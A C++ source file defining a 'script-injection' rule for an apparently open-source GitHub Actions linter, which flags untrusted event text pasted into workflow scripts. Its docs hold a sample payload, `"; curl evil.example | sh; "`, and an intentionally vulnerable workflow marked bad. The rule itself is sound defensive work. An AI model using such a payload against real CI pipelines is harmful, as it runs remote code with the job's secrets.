// SPDX-License-Identifier: Apache-2.0
#include <algorithm>

#include "analyzers/workflow/model.h"
#include "analyzers/workflow/untrusted.h"
#include "core/text.h"
#include "rules/workflow/pack.h"

namespace interlock::workflow {
namespace {

constexpr RuleInfo kInfo{
    .id = "script-injection",
    .summary = "Text that others write becomes part of a script",
    .since = "0.1.0",
    .category = Category::kWorkflow,
    .severity = Severity::kError,
    .security_severity = "9.3",
    .tags = "github-actions security injection",
    .peers =
        "actionlint:expression zizmor:template-injection "
        "poutine:injection",
    .docs = R"(## What it does
Reports `${{ }}` in `run` (and in the `script` of actions/github-script) that
puts in the title or body of an issue, a comment, a branch name, a commit
message or an input of a manual start. Only what reaches the script's text
counts: `contains(github.event.comment.body, 'x')` gives true or false.

## Why is this bad?
The text is pasted into the script before the shell reads it. A comment such as
`"; curl evil.example | sh; "` then runs with the job's token and secrets.

```yaml,bad
on: issue_comment
permissions: {}
jobs:
  bot:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.comment.body }}"
```

```yaml,good
on: issue_comment
permissions: {}
jobs:
  bot:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$BODY"
        env:
          BODY: ${{ github.event.comment.body }}
```
)"};
static_assert(WellFormed(kInfo));

// Some event of the workflow fills the path with something.
bool Holds(const Workflow& workflow, std::string_view path) {
  std::string_view events = EventsOf(path);
  if (events.empty()) return true;
  for (std::string_view event : Split(events, ' ')) {
    if (workflow.FindTrigger(event) != nullptr) return true;
  }
  return false;
}

// A manual start's inputs are free text unless their type says otherwise.
bool IsFreeInput(const Workflow& workflow, std::string_view path) {
  const Trigger* start = workflow.FindTrigger("workflow_dispatch");
  if (start == nullptr) return false;
  std::string_view name = path.substr(path.rfind('.') + 1);
  for (const Input& input : start->inputs) {
    if (!EqualsIgnoringCase(input.name.text, name)) continue;
    return input.type.text.empty() || input.type.text == "string";
  }
  return false;
}

// Where the expression stands in the file. Block scalars lose their indent
// when read, so it is looked for again from where the last one ended.
Span Locate(const Workflow& workflow, const Text& script, Span piece,
            uint32_t& from) {
  std::string_view wanted = piece.In(script.text);
  std::string_view whole = workflow.source->text();
  size_t at = whole.find(wanted, std::max(from, script.span.begin));
  if (at == std::string_view::npos || at + wanted.size() > script.span.end) {
    return script.span;
  }
  from = static_cast<uint32_t>(at + 1);
  return {static_cast<uint32_t>(at), static_cast<uint32_t>(at + wanted.size())};
}

std::string VariableFor(std::string_view path) {
  std::string name;
  for (char c : path.substr(path.rfind('.') + 1)) {
    bool letter = c >= 'a' && c <= 'z';
    if (letter) c = static_cast<char>(c - 'a' + 'A');
    name += letter || IsDigit(c) ? c : '_';
  }
  return name;
}

void CheckScript(const Workflow& workflow, const Text& script, Sink& out) {
  if (!HasExpression(script.text)) return;
  uint32_t from = script.span.begin;
  Span last{1, 0};
  for (const Untrusted& one : FindUntrusted(ParseTemplate(script.text))) {
    bool input = one.author == Author::kStarter;
    bool real =
        input ? IsFreeInput(workflow, one.path) : Holds(workflow, one.path);
    if (!real || one.span == last) continue;
    last = one.span;
    Span span = Locate(workflow, script, one.span, from);
    auto report = out.Report(
        span, "'{}' is pasted into the script, and {} chooses it",
        Printable(one.path), input ? "whoever starts the workflow" : "anybody");
    report.Help("put it into env as {} and use \"${}\" in the script",
                VariableFor(one.path), VariableFor(one.path));
    if (input) report.At(Severity::kWarning).Sure(Confidence::kMedium);
  }
}

void Check(const Workflow& workflow, const Context&, Sink& out) {
  for (const Job& job : workflow.jobs) {
    for (const Step& step : job.steps) {
      CheckScript(workflow, step.run, out);
      if (step.uses.repository != "actions/github-script") continue;
      const Variable* script = step.with.Find("script");
      if (script != nullptr) CheckScript(workflow, script->value, out);
    }
  }
}

}  // namespace

extern constexpr Rule kScriptInjection = On<Workflow, Check>(kInfo);

}  // namespace interlock::workflow
